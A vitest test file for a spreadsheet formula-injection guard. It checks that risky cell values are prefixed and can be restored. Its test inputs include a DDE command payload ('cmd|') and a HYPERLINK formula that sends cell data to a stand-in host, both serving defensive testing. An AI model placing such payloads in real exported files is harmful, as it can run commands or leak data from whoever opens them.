import { expect, test } from 'vitest';
import { guardFormula, unguardFormula } from './formula-guard.ts';

const formulas = [
  '=1+1',
  '+49 30 1',
  '-1+cmd|x!A1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '\tplain',
  ' =1',
  '\u00a0=1',
  '"=1"',
  `' =1`,
  "'=1",
  "''+x",
  '＝1',
  '＋1',
  '－1',
  '＠SUM',
  '−1',
  '=HYPERLINK("http://x.example?"&A1)',
  '+x@y.example',
];

test.each(formulas)(
  '%j is shown, not run, and can be restored (contract: Unsubscribing and erasing 9)',
  (text) => {
    const cell = guardFormula(text);
    expect(cell).toBe(`'${text}`);
    expect(unguardFormula(cell)).toBe(text);
  },
);

test.each(['', 'anna@example.com', "o'neil+x=1@example.com", 'a=b', '2026-11-19', "'onerror=1'@x.example"])(
  '%j is left unchanged',
  (text) => {
    expect(guardFormula(text)).toBe(text);
    expect(unguardFormula(text)).toBe(text);
  },
);

test('any text survives guarding and unguarding', () => {
  const signs = ["'", '"', ' ', '=', '+', 'a', '\t', '@', '＝'];
  const texts = signs.flatMap((a) =>
    signs.flatMap((b) => signs.flatMap((c) => signs.map((d) => a + b + c + d))),
  );
  for (const text of texts) expect(unguardFormula(guardFormula(text))).toBe(text);
});
